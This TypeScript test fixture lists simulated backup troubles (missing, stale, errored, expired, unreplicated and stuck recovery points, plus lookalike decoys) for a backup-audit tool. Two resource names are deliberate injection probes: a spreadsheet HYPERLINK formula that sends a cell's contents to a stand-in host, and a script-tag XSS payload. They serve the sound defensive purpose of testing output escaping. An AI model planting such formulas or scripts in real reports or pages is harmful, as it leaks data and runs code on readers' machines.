import type { VaultName } from './company.ts'
import type { Extent } from './history.ts'
import {
  dropNewest,
  enter,
  failChild,
  failCopy,
  failRuns,
  failThenSucceed,
  hold,
  IMPORT_FAILED,
  keepOnlyCopies,
  leave,
  replicate,
  stick,
  type Twist,
  VAULT_FULL,
} from './twists.ts'
import { COPY_DAYS } from './vault-draft.ts'

/** A resource whose backups went wrong in a way that the audit must see (or must not mistake). */
export interface Trouble {
  readonly name: string
  readonly vault: VaultName
  readonly extent: Extent
  readonly twist: Twist
}

const WEEK: Extent = { runs: 7, copies: 2 }

/** Every kind of trouble that the controls know, worst first; names that would hurt a careless report are among them. */
export const TROUBLES: readonly Trouble[] = [
  // recovery-point-missing
  { name: 'erp-migration-01', vault: 'erp', extent: { runs: 1, copies: 0 }, twist: failRuns(0) },
  { name: 'mongo-data-new', vault: 'data', extent: { runs: 0, copies: 0 }, twist: leave },
  // recovery-point-stale
  { name: 'hr-portal-legacy', vault: 'erp', extent: { runs: 12, copies: 0 }, twist: dropNewest(6) },
  { name: '财务-数据库-01', vault: 'erp', extent: { runs: 9, copies: 2 }, twist: failRuns(0, 1) },
  { name: 'kafka-log-archive', vault: 'data', extent: { runs: 8, copies: 0 }, twist: dropNewest(3) },
  { name: 'shop-web-retired', vault: 'web', extent: { runs: 5, copies: 4 }, twist: keepOnlyCopies },
  // backup-errored
  { name: 'build-agent-99', vault: 'office', extent: WEEK, twist: failRuns(3) },
  {
    name: '=HYPERLINK("http://intranet.example/?h="&A1,"gitlab")',
    vault: 'office',
    extent: WEEK,
    twist: failRuns(4),
  },
  { name: 'search-reindex', vault: 'web', extent: WEEK, twist: failRuns(2, 5) },
  { name: 'erp-db-primary', vault: 'erp', extent: WEEK, twist: failChild(1) },
  { name: 'payment-gw-hsm', vault: 'web', extent: WEEK, twist: failChild(4) },
  { name: 'cart-api-copyfail', vault: 'web', extent: WEEK, twist: failCopy },
  // backup-expired
  { name: 'wiki-2019', vault: 'office', extent: { runs: 11, copies: 2 }, twist: leave },
  { name: '<script>alert("erp")</script>', vault: 'web', extent: { runs: 10, copies: 2 }, twist: leave },
  { name: 'nginx-edge-old', vault: 'web', extent: { runs: 7, copies: COPY_DAYS + 2 }, twist: leave },
  // backup-unreplicated
  { name: 'erp-batch-night', vault: 'erp', extent: WEEK, twist: replicate(undefined, 2, 3, 4, 5) },
  {
    name: 'gitlab-runner, "spare"',
    vault: 'office',
    extent: WEEK,
    twist: replicate({ status: 'fail', failure: VAULT_FULL }, 2, 3, 4),
  },
  {
    name: 'hk-gateway',
    vault: 'hk',
    extent: { runs: 7, copies: 0 },
    twist: replicate({ status: 'fail', failure: IMPORT_FAILED }, 2),
  },
  { name: '🚀-ci-runner', vault: 'office', extent: WEEK, twist: replicate({ status: 'skip' }, 3, 4) },
  {
    name: 'mysql-data-hot',
    vault: 'data',
    extent: WEEK,
    twist: replicate({ status: 'waiting_replicate' }, 2),
  },
  { name: 'nas-video', vault: 'files', extent: WEEK, twist: replicate({ status: 'replicating' }, 2) },
  { name: 'shop-api-retry', vault: 'web', extent: WEEK, twist: failThenSucceed },
  // backup-stuck
  {
    name: 'orders-redo-tail',
    vault: 'orders',
    extent: { runs: 24, copies: 0 },
    twist: stick('protecting', 9),
  },
  { name: 'ad-dc-03', vault: 'office', extent: WEEK, twist: stick('waiting_protect', 7) },
  { name: 'wiki-drill', vault: 'office', extent: WEEK, twist: hold('restoring', 3, 8) },
  { name: 'erp-report-tmp', vault: 'erp', extent: WEEK, twist: hold('deleting', 6, 10) },
  // No trouble, but easily taken for one.
  { name: 'build-agent-busy', vault: 'office', extent: WEEK, twist: stick('protecting', 0.2) },
  {
    name: 'jump-host-decom',
    vault: 'office',
    extent: { runs: 0, copies: 0 },
    twist: enter({ protect_status: 'deleted' }),
  },
  {
    name: 'print-02',
    vault: 'office',
    extent: WEEK,
    twist: enter({ protect_status: null, extra_info: undefined }),
  },
]
